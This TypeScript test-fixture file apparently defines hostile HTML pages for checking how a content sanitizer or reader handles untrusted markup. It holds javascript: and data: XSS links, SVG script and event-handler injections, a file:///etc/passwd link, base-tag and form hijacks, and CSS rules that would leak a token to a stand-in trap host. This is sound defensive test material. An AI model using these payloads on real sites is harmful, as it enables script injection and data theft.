import { hostile } from './entry.ts';
import { page, post, styled, WORDS } from './markup.ts';

/** An address that no machine has: whatever asks for it is seen to. */
export const TRAP = 'http://piege.invalid';

/** Addresses, drawings and styles that would run, load or tell. */
export const links = [
  hostile(
    'liens',
    'Des liens qui sont des scripts, des données, des fichiers',
    page(
      `<main>${post(
        `${WORDS} <a href="javascript:globalThis.ran=1;alert(1)">un</a> <a href="data:text/html,<script>alert(1)</script>">deux</a>
      <a href=" java\nscript:alert(1)">trois</a> <a href="file:///etc/passwd">quatre</a> <a href="chrome://settings">cinq</a>
      <a href="${TRAP}/?q=1" ping="${TRAP}/ping" target="_top" download="x.exe">six</a> <a href="blob:null/1">sept</a>`,
      )
        .replace('/hostile/m/1', 'javascript:alert(1)')
        .replace('/hostile/u/brindille', 'data:text/html,x')}</main>`,
    ),
    {},
    { core: true },
  ),
  hostile(
    'base',
    'Une adresse de base qui détourne tous les liens',
    page(`<main>${post()}</main>`, `<base href="${TRAP}/" target="_blank">`),
  ),
  hostile(
    'formulaires',
    'Des formulaires qui partiraient ailleurs',
    page(
      `<main>${post(WORDS, `<form action="${TRAP}/form" method="post"><button formaction="javascript:alert(1)">Envoyer</button><input type="image" src="${TRAP}/i.png" alt=""></form>`)}</main>`,
    ),
    { asks: true, changes: null },
  ),
  hostile(
    'dessin',
    'Un dessin avec des scripts, des objets étrangers et des renvois',
    page(
      `<main>${post(
        WORDS,
        `<svg width="80" height="40" onload="globalThis.ran=1"><script>globalThis.ran=1</script><foreignObject width="40" height="20"><div xmlns="http://www.w3.org/1999/xhtml">dedans<img src="${TRAP}/f.png" onerror="globalThis.ran=1"></div></foreignObject>
      <use href="data:image/svg+xml,<svg id='x'/>#x"/><use href="${TRAP}/u.svg#a"/><image href="${TRAP}/i.png"/><a href="javascript:alert(1)"><text y="20">lien</text></a>
      <animate attributeName="href" values="javascript:alert(1)"/><set attributeName="onmouseover" to="alert(1)"/></svg>`,
      )}</main>`,
    ),
    { asks: true, changes: null, missing: ['unread-text'] },
    { core: true },
  ),
  hostile(
    'styles',
    'Des feuilles de style qui emportent ce qu’elles voient',
    styled(
      `@import url("${TRAP}/import.css");
@font-face { font-family: espion; src: url("${TRAP}/a.woff2"); unicode-range: U+61 }
[itemprop=text] { font-family: espion, sans-serif; cursor: url("${TRAP}/c.png"), auto; --a: url("${TRAP}/v.png") }
[itemprop=text]::after { content: attr(data-jeton) "\\3c /style>\\3c script>globalThis.ran=1\\3c /script>" url("${TRAP}/after.png") }
a[href^="/hostile"] { background-image: image-set(url("${TRAP}/s.png") 1x); list-style: url("${TRAP}/l.png") }
article { mask: url("${TRAP}/m.svg#a"); -webkit-mask: none; border-image: url("${TRAP}/b.png") 2; filter: url("#rien"); background: -webkit-cross-fade(url("${TRAP}/x.png"), url("${TRAP}/y.png"), 50%) }`,
      `<span data-jeton="jeton-4242">${WORDS}</span>`,
    ),
    { asks: true, changes: null, picture: 'any', missing: ['unread-text'] },
    { core: true, seconds: 30 },
  ),
  hostile(
    'cadres',
    'Trente cadres l’un dans l’autre',
    page(`<main>${post(WORDS, '<div id="cadre"></div>')}</main><script>
      let at = document.querySelector('#cadre');
      for (let depth = 0; depth < 30; depth += 1) {
        const frame = at.ownerDocument.createElement('iframe'); frame.style.cssText = 'width:90%;height:90%';
        at.append(frame); at = frame.contentDocument.body;
      }
      at.textContent = 'au fond';</script>`),
    { asks: true, changes: null, missing: ['frame'] },
  ),
  hostile(
    'metas',
    'Des méta qui rafraîchissent, des préchargements, une politique au milieu du message',
    page(
      `<main>${post(
        `${WORDS} <meta http-equiv="refresh" content="600;url=${TRAP}"><link rel="preload" as="image" href="${TRAP}/p.png"><link rel="dns-prefetch" href="${TRAP}"><template><img src="${TRAP}/t.png"></template><noscript><img src="${TRAP}/n.png"></noscript>`,
      )}</main>`,
    ),
    { changes: null },
  ),
];
